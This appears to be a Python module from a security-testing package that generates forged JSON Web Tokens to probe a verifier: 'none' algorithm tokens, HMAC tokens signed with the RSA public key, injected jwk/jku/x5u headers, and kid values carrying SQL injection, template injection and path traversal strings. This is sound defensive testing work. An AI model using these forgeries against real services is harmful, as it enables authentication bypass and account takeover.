"""Builds tokens of other algorithms and keys, which no library builds."""

import hmac
import json
from collections.abc import Iterator, Mapping
from itertools import product
from typing import Any

from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.hashes import SHA256
from joserfc.jwk import RSAKey

from reliability.attack.json_tokens import Signer, build_token, encode
from reliability.attack.target import Target

_NONE_NAMES = ("none", "None", "NONE", "nOnE", "", "null")
_SECRET_ALGORITHMS = ("HS256", "HS384", "HS512")
_OTHER_ALGORITHMS = ("RS384", "RS512", "PS256", "PS384", "PS512")
_KEY_IDS: tuple[object, ...] = (
    "",
    "0",
    "../../dev/null",
    "/dev/null",
    "' or 1=1 --",
    "*",
    "${7*7}",
    "\0",
    0,
    True,
    [],
    {},
)


def change_algorithms(target: Target) -> Iterator[tuple[str, str]]:
    claims = target.build_claims()
    for name, signature in product(_NONE_NAMES, (b"", b"x")):
        header = {"alg": name, "kid": target.key_id}
        yield f"{name!r} {signature!r}", build_token(header, claims, sign=_constant(signature))
    for name, (form, secret) in product(_SECRET_ALGORITHMS, _public_forms(target.key).items()):
        header = {"alg": name, "kid": target.key_id}
        sign = _hmac_signer(secret, f"sha{name[2:]}")
        yield f"{name} with {form}", build_token(header, claims, sign=sign)
    for name in _OTHER_ALGORITHMS:
        yield f"{name} with the pool's key", target.sign_token(header={"alg": name})


def _constant(signature: bytes) -> Signer:
    return lambda message: signature


def _hmac_signer(secret: bytes, digest: str) -> Signer:
    return lambda message: hmac.digest(secret, message, digest)


def _public_forms(key: RSAKey) -> Mapping[str, bytes]:
    """The public key as a server may hold it, and other secrets that anybody knows."""
    fields = key.as_dict(private=False)
    pem = key.as_pem(private=False)
    return {
        "the public key": pem,
        "the public key without its last line end": pem.rstrip(),
        "the public key in DER": key.as_der(private=False),
        "the public key in JSON": json.dumps(fields).encode(),
        "the modulus": str(fields["n"]).encode(),
        "an empty secret": b"",
        "a known secret": b"secret",
    }


def change_keys(target: Target) -> Iterator[tuple[str, str]]:
    key = RSAKey.generate_key(2048)
    public = key.as_dict(private=False)
    headers: dict[str, Mapping[str, Any]] = {
        "another key": {},
        "no kid": {"kid": None},
        "a key in jwk": {"jwk": public},
        "a key at jku": {"jku": "http://127.0.0.1:9/keys.json"},
        "a key at x5u": {"x5u": "http://127.0.0.1:9/key.pem"},
        "a certificate in x5c": {"x5c": [encode(b"certificate")]},
        "crit": {"crit": ["exp"], "exp": 0},
        "an unencoded payload": {"b64": False, "crit": ["b64"]},
        **{f"the kid {kid!r}": {"kid": kid} for kid in _KEY_IDS},
        "a list of kid": {"kid": [target.key_id]},
    }
    for name, changes in headers.items():
        head = {"alg": "RS256", "kid": target.key_id, **changes}
        head = {field: value for field, value in head.items() if value is not None}
        yield name, build_token(head, target.build_claims(), sign=_signer(key))


def _signer(key: RSAKey) -> Signer:
    """Signs as RS256 does, whatever the header says."""
    private_key = key.private_key
    assert private_key is not None
    return lambda message: private_key.sign(message, PKCS1v15(), SHA256())
